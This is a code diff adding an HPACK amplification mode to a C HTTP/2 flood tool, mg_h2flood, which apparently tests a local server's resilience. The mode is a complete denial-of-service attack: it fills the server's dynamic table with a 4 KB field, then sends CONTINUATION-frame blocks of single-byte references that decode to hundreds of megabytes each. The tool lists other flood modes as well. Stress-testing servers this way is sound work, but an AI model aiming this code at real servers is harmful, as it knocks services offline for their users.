@@ -51,6 +51,17 @@
  *                       write per byte, 0.2 ms apart). Prints "status <code>", "reset
  *                       <code>" or "none", then "body_length <n>" as the
  *                       echo upstream reported it (-1 if not found).
+ *     hpack N           HPACK amplification: a GET (stream 1) that puts one
+ *                       4 KB field in the server's dynamic table, then N GET
+ *                       header blocks (streams 3, 5, ...) each filling a
+ *                       HEADERS and 8 CONTINUATION frames of 16 KB with
+ *                       1-byte references to that field (147,456 fields,
+ *                       600 MB decoded, per block). Prints "blocks <n>" (how
+ *                       many were written before the server stopped
+ *                       reading), "answered <n>" (abusive streams that got
+ *                       HEADERS or RST_STREAM), "first <status>" (stream 1's
+ *                       status), "goaway <code> last <id>" per GOAWAY and
+ *                       "closed" or "open".
  * The floods write raw frames (HPACK literals without indexing); the
  * headers mode uses an nghttp2 client session. TLS with ALPN h2 to
  * 127.0.0.1, SNI = --host (default app.example.com), no verification
@@ -590,6 +601,129 @@ static int mode_seq(SSL *ssl, const char *host, long n, long ms, const char *pat
     return 0;
 }
 
+/* ---- hpack mode: a small block that decodes to a huge header list ---- */
+
+/* HPACK integer with an n-bit prefix (RFC 7541 5.1); first carries the
+ * representation's flag bits. */
+static void hpack_int(struct out *o, unsigned char first, int n, size_t v)
+{
+    size_t max = ((size_t)1 << n) - 1;
+    unsigned char b;
+    if (v < max) {
+        b = (unsigned char)(first | v);
+        put(o, &b, 1);
+        return;
+    }
+    b = (unsigned char)(first | max);
+    put(o, &b, 1);
+    for (v -= max; v >= 128; v >>= 7) {
+        b = (unsigned char)(0x80 | (v & 0x7f));
+        put(o, &b, 1);
+    }
+    b = (unsigned char)v;
+    put(o, &b, 1);
+}
+
+static int mode_hpack(SSL *ssl, const char *host, long n)
+{
+    if (n < 1 || n > 1000)
+        return 1;
+    struct timeval tv = { 5, 0 };
+    setsockopt(SSL_get_fd(ssl), SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
+    struct out o = { 0 }, hb = { 0 };
+    preface(&o);
+    /* stream 1: x-a: 4000 bytes, literal with incremental indexing: the
+     * entry (3 + 4000 + 32 bytes) fills the default 4096-byte table and
+     * becomes dynamic index 62 */
+    request_block(&hb, host);
+    hpack_int(&hb, 0x40, 6, 0);
+    hpack_int(&hb, 0, 7, 3);
+    put(&hb, "x-a", 3);
+    hpack_int(&hb, 0, 7, 4000);
+    for (int i = 0; i < 4000; i++)
+        put(&hb, "a", 1);
+    frame(&o, 0x1, 0x5, 1, hb.p, hb.len);
+    if (write_all(ssl, o.p, o.len) != 0)
+        return 1;
+    /* each abusive block: the usual GET fields, then 1-byte references
+     * (0xbe = indexed 62) up to 9 frames of 16384 bytes, the most nghttp2
+     * takes (8 CONTINUATION frames) */
+    hb.len = 0;
+    request_block(&hb, host);
+    size_t total = 9 * 16384;
+    while (hb.len < total) {
+        unsigned char ref = 0xbe;
+        put(&hb, &ref, 1);
+    }
+    long sent = 0;
+    for (long i = 0; i < n; i++) {
+        uint32_t sid = (uint32_t)(3 + 2 * i);
+        o.len = 0;
+        for (size_t off = 0, k = 0; off < total; off += 16384, k++) {
+            uint8_t type = k == 0 ? 0x1 : 0x9;
+            uint8_t flags = (k == 0 ? 0x1 : 0) | (off + 16384 >= total ? 0x4 : 0);
+            frame(&o, type, flags, sid, hb.p + off, 16384);
+        }
+        if (write_all(ssl, o.p, o.len) != 0)
+            break;                                      /* the server stopped reading */
+        sent = i + 1;
+    }
+    free(hb.p);
+    free(o.p);
+    printf("blocks %ld\n", sent);
+    fflush(stdout);
+    /* what came back: stream 1's status, answers to the abusive streams,
+     * GOAWAY; until the server closes or is silent for --linger s */
+    tv.tv_sec = linger_s;
+    setsockopt(SSL_get_fd(ssl), SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+    unsigned char buf[16384 + 9], *acc = NULL;
+    size_t alen = 0;
+    long answered = 0;
+    int first = 0;
+    bool closed = true;
+    for (;;) {
+        int r = SSL_read(ssl, buf, sizeof(buf));
+        if (r <= 0) {
+            int e = SSL_get_error(ssl, r);
+            closed = !(r < 0 && (e == SSL_ERROR_WANT_READ ||
+                                 (e == SSL_ERROR_SYSCALL && (errno == EAGAIN || errno == EWOULDBLOCK))));
+            break;
+        }
+        acc = realloc(acc, alen + (size_t)r);
+        if (!acc)
+            abort();
+        memcpy(acc + alen, buf, (size_t)r);
+        alen += (size_t)r;
+        size_t off = 0;
+        while (alen - off >= 9) {
+            size_t fl = ((size_t)acc[off] << 16) | ((size_t)acc[off + 1] << 8) | acc[off + 2];
+            if (alen - off < 9 + fl)
+                break;
+            uint8_t type = acc[off + 3];
+            uint32_t sid = ((uint32_t)acc[off + 5] << 24 | (uint32_t)acc[off + 6] << 16 |
+                            (uint32_t)acc[off + 7] << 8 | acc[off + 8]) & 0x7fffffffu;
+            const unsigned char *pl = acc + off + 9;
+            if (sid == 1 && type == 0x1 && fl >= 1 && !first)
+                first = hpack_status(pl, fl);
+            if (sid > 1 && (type == 0x1 || type == 0x3))
+                answered++;
+            if (type == 0x7 && fl >= 8) {
+                uint32_t last = ((uint32_t)pl[0] << 24 | (uint32_t)pl[1] << 16 |
+                                 (uint32_t)pl[2] << 8 | pl[3]) & 0x7fffffffu;
+                uint32_t code = (uint32_t)pl[4] << 24 | (uint32_t)pl[5] << 16 |
+                                (uint32_t)pl[6] << 8 | pl[7];
+                printf("goaway %u last %u\n", code, last);
+            }
+            off += 9 + fl;
+        }
+        memmove(acc, acc + off, alen - off);
+        alen -= off;
+    }
+    free(acc);
+    printf("answered %ld\nfirst %d\n%s\n", answered, first, closed ? "closed" : "open");
+    return 0;
+}
+
 /* ---- body mode: a request body framed and split as told ---- */
 
 static int body_frames(struct out *o, const char *host, const char *path, const char *spec,
@@ -919,7 +1053,7 @@ int main(int argc, char **argv)
     }
     if (!port || i >= argc || strlen(host) > 100) {
         fprintf(stderr, "usage: mg_h2flood --port P [--host NAME] [--linger S] rapid N | continuation N | stall | open N PATH | noread PATH S | slowbody PATH S | seq N MS PATH | ping N | "
-                        "body SPLIT PATH SPEC | "
+                        "body SPLIT PATH SPEC | hpack N | "
                         "headers N K BIG | request METHOD PATH [NAME VALUE]...\n");
         return 1;
     }
@@ -947,6 +1081,8 @@ int main(int argc, char **argv)
         rc = mode_slowbody(ssl, host, argv[i + 1], atoi(argv[i + 2]), true);
     else if (strcmp(mode, "seq") == 0 && i + 3 < argc)
         rc = mode_seq(ssl, host, a, atol(argv[i + 2]), argv[i + 3]);
+    else if (strcmp(mode, "hpack") == 0 && a > 0)
+        rc = mode_hpack(ssl, host, a);
     else if (strcmp(mode, "body") == 0 && i + 3 < argc)
         rc = mode_body(ssl, host, argv[i + 1], argv[i + 2], argv[i + 3]);
     else if (strcmp(mode, "stall") == 0)
